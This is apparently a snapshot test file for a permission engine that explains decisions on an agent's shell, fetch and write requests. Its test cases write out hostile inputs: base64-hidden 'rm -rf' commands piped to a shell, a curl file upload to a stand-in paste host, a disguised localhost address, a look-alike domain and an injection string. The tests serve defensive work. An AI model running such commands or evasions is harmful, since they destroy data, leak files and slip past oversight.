import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { decide } from '../../src/core/decide/decide.ts';
import { explain } from '../../src/core/decide/explain.ts';
import { describe as read } from '../../src/core/describe/describe.ts';
import { compilePolicy } from '../../src/core/policy/compilePolicy.ts';
import { type PolicySettings, defaultSettings } from '../../src/core/policy/policy.ts';
import type { Request } from '../../src/core/request.ts';
import type { Rule, RuleScope, RuleSource } from '../../src/core/rules/rule.ts';
import { tieTo } from '../../src/core/rules/scriptHash.ts';
import { allOn, caseSurroundings } from './cases.ts';

const folder = path.join(import.meta.dirname, 'explained');
/** Writes what is said now into the files, to be looked at before it is committed */
const rewrites = process.env['EXPLAIN_REWRITE'] === '1';

interface Case {
  readonly request: Request;
  readonly rules?: readonly Rule[];
  readonly settings?: Partial<PolicySettings>;
  readonly links?: Readonly<Record<string, string>>;
}

const line = (command: string): Request => ({ tool: 'run_command', input: { command } });
const prefix = (text: string): RuleScope => ({ kind: 'command_prefix', prefix: text });
const rule = (id: string, effect: Rule['effect'], scope: RuleScope, source: RuleSource = 'workspace_db', more: Partial<Rule> = {}): Rule => ({ id, source, effect, scope, createdAt: 0, ...more });

const cases: Readonly<Record<string, Case>> = {
  'a read among others': { request: line('git status && ls -la src | head -5') },
  'a part that no rule names': { request: line("find . -name '*.o' -delete"), rules: [rule('find', 'allow', prefix('find .'))] },
  'decoded text': { request: line('echo cm0gLXJmIHNyYw== | base64 -d | sh') },
  'decoded text that is blocked': { request: line('bash <(echo cm0gLXJmIC8= | base64 -d)') },
  'layers of wrappers': { request: line("sudo -u x env A=1 timeout 5 bash -c 'git push origin; ls'"), rules: [rule('push', 'deny', prefix('git push'))] },
  'a function and its body': { request: line('clean() { rm -rf build; }; clean') },
  'a look-alike host': { request: { tool: 'web_fetch', input: { url: 'https://gіthub.com/x' } } },
  'a file that leaves': { request: line('curl -T notes.txt https://paste.example/'), rules: [rule('paste', 'allow', { kind: 'domain', domain: 'paste.example' })] },
  'the network of this machine': { request: line('curl http://2130706433:8080/admin') },
  'a link out of the workspace': { request: { tool: 'write_file', input: { path: 'notes/today.md', content: 'x' } }, links: { '/ws/notes': '/srv/notes' } },
  'rules that lose': {
    request: line('npm install left-pad'),
    rules: [
      rule('exact', 'ask', prefix('npm install left-pad')), rule('short', 'allow', prefix('npm install')), rule('tool', 'deny', { kind: 'tool', toolName: 'run_command' }, 'profile'),
      rule('repository', 'allow', prefix('npm install left-pad'), 'workspace_manifest'), rule('over', 'allow', prefix('npm install left-pad'), 'session', { expiresAt: 1 }),
    ],
  },
  'a script that changed': { request: line('npm run build'), rules: [rule('build', 'allow', prefix('npm run build'), 'workspace_db', { metadata: { ...tieTo('build: tsc --noEmit', () => true) } })] },
  'a script that is allowed': { request: line('npm run build'), rules: [rule('build', 'allow', prefix('npm run build'), 'workspace_db', { metadata: { ...tieTo('build: tsc', () => true) } })] },
  'a protected place': { request: line('echo x >> .cowork/policy/permissions.json') },
  'a line that does not parse': { request: line('ls "; rm x') },
  'hidden characters': { request: line('ls \u202esrc\u200b') },
};

describe('what explaining says', () => {
  for (const [name, { request, rules = [], settings = {}, links = {} }] of Object.entries(cases)) {
    it(name, () => {
      const surroundings = caseSurroundings(links);
      const policy = compilePolicy({ ...defaultSettings, permissions: allOn, ...settings, rules }, surroundings, { repositoryAllows: true });
      const described = read(request, surroundings);
      const text = explain(request, described, decide(request, described, policy, { now: 10, holds: [] }));
      const file = path.join(folder, `${name}.txt`);
      if (rewrites) writeFileSync(file, text);
      assert.equal(text, existsSync(file) ? readFileSync(file, 'utf8') : '');
    });
  }

  it('no text is left over from a case that is gone', () => {
    assert.deepEqual(readdirSync(folder).sort(), Object.keys(cases).map((name) => `${name}.txt`).sort());
  });
});
